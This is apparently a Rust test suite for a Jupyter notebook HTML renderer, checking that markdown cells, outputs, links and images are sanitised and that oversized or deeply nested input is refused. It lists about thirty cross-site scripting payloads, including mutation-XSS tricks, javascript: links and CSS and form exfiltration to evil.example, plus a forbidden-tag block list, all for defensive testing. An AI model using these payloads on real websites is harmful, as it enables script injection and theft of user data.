//! A notebook cannot do anything to who reads it.

use serde_json::{Value, json};
use thimble_explore::{MAX_NOTEBOOK_BYTES, Notebook, NotebookError};

/// A picture of one pixel.
const PNG: &str = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

fn rendered(cells: Value) -> String {
    let file = json!({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells});
    Notebook::parse(file.to_string().as_bytes()).expect("a notebook").to_html("data")
}

fn markdown(source: &str) -> String {
    rendered(json!([{"cell_type": "markdown", "metadata": {}, "source": source}]))
}

fn output(data: Value) -> String {
    rendered(json!([{"cell_type": "code", "source": ["plot()"], "execution_count": 1, "metadata": {},
        "outputs": [{"output_type": "display_data", "metadata": {}, "data": data}]}]))
}

/// The page has nothing that runs or loads. Its own head has no such thing either.
fn assert_harmless(html: &str) {
    let lower = html.to_lowercase();
    let (head, body) = lower.split_once("<body>").expect("a page has a body");
    assert!(head.contains("default-src 'none'"));
    // Escaped text may say anything: what counts is what stands inside tags.
    for tag in body.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default()) {
        let name: String = tag.chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '/').collect();
        let forbidden = [
            "script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "link", "meta",
            "base", "video", "audio", "source", "template", "frame", "frameset", "applet", "portal",
        ];
        assert!(!forbidden.contains(&name.as_str()), "<{tag}>");
        let attributes = tag.get(name.len()..).unwrap_or_default();
        for part in attributes.split_ascii_whitespace() {
            assert!(!part.starts_with("on") && !part.starts_with("style"), "<{tag}>");
            assert!(!part.starts_with("srcset") && !part.starts_with("action") && !part.starts_with("id="), "<{tag}>");
            if let Some(target) = part.strip_prefix("src=\"") {
                assert!(target.starts_with("data:image/png;base64,") || target.starts_with("data:image/jpeg;base64,"));
            }
            if let Some(target) = part.strip_prefix("href=\"") {
                assert!(["http://", "https://", "mailto:"].iter().any(|scheme| target.starts_with(scheme)), "<{tag}>");
            }
        }
    }
}

/// HTML that tries to run or to load something.
const ATTACKS: [&str; 30] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<img srcset='https://evil.example/pixel.png 1x'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" jAvAsCrIpT&colon;alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<p style=\"background:url(https://evil.example/a)\">x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "</section></main></body><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
];

#[test]
fn no_html_of_a_markdown_cell_runs_or_loads() {
    for attack in ATTACKS {
        assert_harmless(&markdown(attack));
        assert_harmless(&markdown(&format!("# Title\n\n> * text {attack}\n\n| a |\n|---|\n| {attack} |\n")));
    }
}

#[test]
fn no_html_of_an_output_runs_or_loads() {
    for attack in ATTACKS {
        assert_harmless(&output(json!({"text/html": attack})));
        assert_harmless(&output(json!({"text/html": ["<table><tr><td>", attack, "</td></tr></table>"]})));
        assert_harmless(&output(json!({"text/markdown": attack})));
    }
}

#[test]
fn no_link_of_markdown_runs() {
    for target in
        ["javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,x", "java\tscript:x", "file:///x", "#x"]
    {
        let html = markdown(&format!("[x](<{target}>) ![x](<{target}>) <{target}>\n\n[y]: {target}\n[y]"));
        assert_harmless(&html);
    }
}

#[test]
fn a_page_stays_whole_whatever_its_cells_leave_open() {
    for open in ["<div><table><tr><td>", "</section></section></main>", "<details>", "<b><i><u>"] {
        let html = markdown(open);
        for tag in ["section", "main", "div", "details", "table"] {
            let opened = html.matches(&format!("<{tag} ")).count() + html.matches(&format!("<{tag}>")).count();
            assert_eq!(opened, html.matches(&format!("</{tag}>")).count(), "{open}: {tag}");
        }
    }
}

#[test]
fn code_and_text_are_shown_as_they_are() {
    let html = rendered(json!([{"cell_type": "code", "source": "print('<script>')", "outputs": [
        {"output_type": "stream", "name": "stdout", "text": ["\u{1b}[31m<script>", "alert(1)</script>\u{1b}[0m"]},
        {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["\u{1b}[0;31mError\u{1b}[0m: <b>"]},
        {"output_type": "execute_result", "data": {"text/plain": "<b onclick=x>"}}]}]));
    assert_harmless(&html);
    for text in ["print(&#39;&lt;script&gt;&#39;)", "&lt;script&gt;alert(1)&lt;/script&gt;", "Error: &lt;b&gt;"] {
        assert!(html.contains(text), "{text}");
    }
    assert!(!html.contains('\u{1b}') && !html.contains("[31m"));
}

#[test]
fn a_picture_is_shown_if_it_is_one() {
    let html = output(json!({"image/png": PNG, "text/plain": "<Figure>"}));
    assert!(html.contains(&format!("<img src=\"data:image/png;base64,{PNG}\"")));
    assert_harmless(&html);
    // Broken over lines, as some tools write it.
    let lines: Vec<_> = PNG.as_bytes().chunks(20).map(|line| format!("{}\n", String::from_utf8_lossy(line))).collect();
    assert!(output(json!({"image/png": lines})).contains(PNG));
}

#[test]
fn what_is_no_picture_leaves_a_note_and_its_text() {
    let huge = "A".repeat(12 << 20);
    for (kind, value) in [
        ("image/png", json!("not base64\" onerror=alert(1) x=\"")),
        ("image/png", json!(huge)),
        ("image/jpeg", json!(PNG)),
        ("image/png", json!({"a": 1})),
        ("image/svg+xml", json!("<svg onload=alert(1)/>")),
    ] {
        let html = output(json!({kind: value, "text/plain": "a plot"}));
        assert_harmless(&html);
        assert!(html.contains("[not shown:") && html.contains("a plot"), "{kind}");
        assert!(!html.contains("<img") && !html.contains("AAAAAAAA"), "{kind}");
    }
}

#[test]
fn widgets_and_scripts_leave_a_note() {
    for data in [
        json!({"application/javascript": "alert(1)"}),
        json!({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}}),
        json!({"text/latex": "\\input{x}"}),
        json!({}),
    ] {
        let html = output(data);
        assert!(html.contains("[not shown: an output of a kind that is not shown]"));
        assert!(!html.contains("alert") && !html.contains("model_id") && !html.contains("input{"));
    }
}

#[test]
fn metadata_and_attachments_are_not_shown() {
    let file = json!({"nbformat": 4, "metadata": {"authors": ["MARK"]}, "cells": [
        {"cell_type": "markdown", "metadata": {"tags": ["MARK"]}, "attachments": {"MARK": {"image/png": PNG}}, "source": "x"}]});
    let html = Notebook::parse(file.to_string().as_bytes()).expect("a notebook").to_html("data");
    assert!(!html.contains("MARK") && !html.contains(PNG));
}

#[test]
fn what_is_no_notebook_is_refused() {
    let refused = |bytes: &[u8]| Notebook::parse(bytes).expect_err("it is none");
    for bytes in [&b""[..], b"{", b"[]", b"\xff\xfe", b"{\"nbformat\": 4, \"cells\": {}}", b"{\"cells\": []}"] {
        assert!(matches!(refused(bytes), NotebookError::Json { .. }));
    }
    assert_eq!(refused(br#"{"nbformat": 3, "cells": []}"#), NotebookError::Version { found: 3 });
    let cells = vec![json!({"cell_type": "raw", "source": ""}); 10_001];
    let many = json!({"nbformat": 4, "cells": cells}).to_string();
    assert!(matches!(refused(many.as_bytes()), NotebookError::Count { what: "cells", found: 10_001, limit: 10_000 }));
}

#[test]
fn a_notebook_has_a_largest_size() {
    let mut bytes = br#"{"nbformat": 4, "cells": []}"#.to_vec();
    bytes.resize(MAX_NOTEBOOK_BYTES as usize, b' ');
    assert!(Notebook::parse(&bytes).is_ok_and(|notebook| notebook.is_empty()));
    bytes.push(b' ');
    let error = NotebookError::Size { bytes: MAX_NOTEBOOK_BYTES + 1, limit: MAX_NOTEBOOK_BYTES };
    assert_eq!(Notebook::parse(&bytes), Err(error));
}

#[test]
fn json_nested_ten_thousand_deep_is_refused() {
    let deep = format!("{{\"nbformat\": 4, \"cells\": [], \"x\": {}1{}}}", "[".repeat(10_000), "]".repeat(10_000));
    assert_eq!(Notebook::parse(deep.as_bytes()), Err(NotebookError::Depth { limit: 64 }));
    assert_eq!(Notebook::parse("{\"a\":".repeat(10_000).as_bytes()), Err(NotebookError::Depth { limit: 64 }));
}

/// Nesting costs a sanitiser more than length does.
#[test]
fn deeply_nested_html_and_markdown_end() {
    for open in ["<div>", "<b>", "<table><tr><td>", "<a href=x>", "<p><b>", "> ", "* ", "[", "**a ", "<svg>"] {
        assert_harmless(&markdown(&open.repeat(20_000)));
        assert_harmless(&output(json!({"text/html": open.repeat(20_000)})));
    }
}

#[test]
fn the_same_notebook_gives_the_same_bytes() {
    let source = "| a |\n|---|\n| <b class=x id=y>z</b> |";
    assert_eq!(markdown(source), markdown(source));
}
